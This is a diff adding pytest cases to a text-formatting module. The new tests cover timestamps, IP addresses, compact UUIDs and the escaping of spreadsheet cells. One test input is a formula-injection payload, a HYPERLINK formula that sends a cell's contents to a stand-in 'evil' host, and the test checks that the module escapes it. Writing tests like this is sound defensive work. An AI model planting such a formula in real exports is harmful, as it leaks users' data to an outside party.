@@ -3,13 +3,18 @@
 import pytest
 
 from kdissect.text import (
+    escape_cell,
     format_address,
     format_clock,
     format_count,
     format_duration,
+    format_ip,
     format_share,
     format_size,
+    format_timestamp,
+    format_uuid,
     parse_address,
+    parse_uuid,
 )
 
 
@@ -105,3 +110,54 @@ def test_addresses_in_other_forms() -> None:
 def test_wrong_addresses_are_refused(text: str) -> None:
     with pytest.raises(ValueError, match="is not a"):
         parse_address(text)
+
+
+@pytest.mark.parametrize(
+    ("time_ns", "digits", "shown"),
+    [
+        (0, 9, "1970-01-01T00:00:00.000000000Z"),
+        (1_777_636_800_123_456_789, 9, "2026-05-01T12:00:00.123456789Z"),
+        (1_777_636_800_999_999_999, 3, "2026-05-01T12:00:00.999Z"),
+        (-1, 9, "1969-12-31T23:59:59.999999999Z"),
+        ((1 << 63) - 1, 9, "2262-04-11T23:47:16.854775807Z"),
+    ],
+)
+def test_timestamp(time_ns, digits, shown):
+    assert format_timestamp(time_ns, digits=digits) == shown
+
+
+@pytest.mark.parametrize(
+    ("address", "shown"),
+    [
+        ("00000000000000000000ffff0a010003", "10.1.0.3"),
+        ("00000000000000000000000000000001", "::1"),
+        ("20010db8000000000000000000000042", "2001:db8::42"),
+        ("0000000000000000000000000a010003", "::10.1.0.3"),
+    ],
+)
+def test_ip(address, shown):
+    assert format_ip(bytes.fromhex(address)) == shown
+
+
+def test_uuid():
+    raw = bytes.fromhex("915dfe482cd642b5a339019fcd0c1f5e")
+    assert format_uuid(raw) == "kV3-SCzWQrWjOQGfzQwfXg"
+    assert parse_uuid("kV3-SCzWQrWjOQGfzQwfXg") == raw
+
+
+@pytest.mark.parametrize("text", ["", "AAAA", "x" * 22, "A" * 24, "kV3+SCzWQrWjOQGfzQwfXg", "é" * 22])
+def test_text_that_is_not_a_uuid(text):
+    with pytest.raises(ValueError, match="is not an id"):
+        parse_uuid(text)
+
+
+@pytest.mark.parametrize(
+    "text", ['=HYPERLINK("http://evil/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
+)
+def test_a_formula_becomes_text_in_a_cell(text):
+    assert escape_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["orders", "", " =1", "a=b", "'=1", "1.5", "a\nb"])
+def test_other_text_stays_in_a_cell(text):
+    assert escape_cell(text) == text
